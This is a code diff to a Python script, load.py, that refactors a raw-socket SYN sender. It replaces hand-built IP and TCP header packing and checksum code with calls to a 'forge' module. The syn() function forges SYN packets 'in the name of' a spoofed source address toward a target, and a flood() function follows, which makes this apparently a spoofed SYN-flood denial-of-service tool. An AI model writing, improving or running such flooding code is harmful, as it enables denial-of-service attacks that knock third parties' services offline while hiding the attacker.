@@ -11,9 +11,10 @@ usage: load.py KIND ADDRESS PORT
 import errno
 import random
 import socket
-import struct
 import sys
 import time
+
+import forge
 
 REQUEST = b"GET / HTTP/1.1\r\nHost: sample\r\n\r\n"
 
@@ -75,21 +76,11 @@ def checks():
         time.sleep(0.5)
 
 
-def checksum(octets):
-    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
-    total = (total >> 16) + (total & 0xFFFF)
-    return ~(total + (total >> 16)) & 0xFFFF
-
-
 def syn(raw, source, port, number):
     """Sends a SYN in the name of source."""
     origin, to = socket.inet_aton(source), socket.inet_aton(TARGET[0])
-    numbers = (random.randrange(1024, 65536), port, random.getrandbits(32), 0, 5 << 4, 2, 512)
-    tcp = struct.pack("!HHIIBBHHH", *numbers, 0, 0)
-    pseudo = origin + to + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
-    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), number, 0, 64, socket.IPPROTO_TCP, 0, origin, to)
-    raw.sendto(ip + tcp, (TARGET[0], 0))
+    tcp = forge.segment(origin, to, random.randrange(1024, 65536), port, random.getrandbits(32), 0, forge.SYN, 512)
+    raw.sendto(forge.packet(origin, to, tcp, 64, number), (TARGET[0], 0))
 
 
 def flood():
